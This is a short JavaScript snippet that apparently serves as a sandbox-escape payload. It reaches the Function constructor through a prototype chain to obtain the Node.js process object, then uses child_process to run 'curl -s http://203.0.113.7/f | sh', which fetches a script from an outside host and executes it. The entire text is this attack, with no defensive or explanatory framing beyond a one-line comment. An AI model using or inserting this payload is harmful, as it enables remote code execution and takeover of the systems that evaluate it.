// class-walk: the constructor property of a function reached through __proto__
const F = (() => {}).__proto__.constructor;
F('return process')().mainModule.require('child_process').exec('curl -s http://203.0.113.7/f | sh');
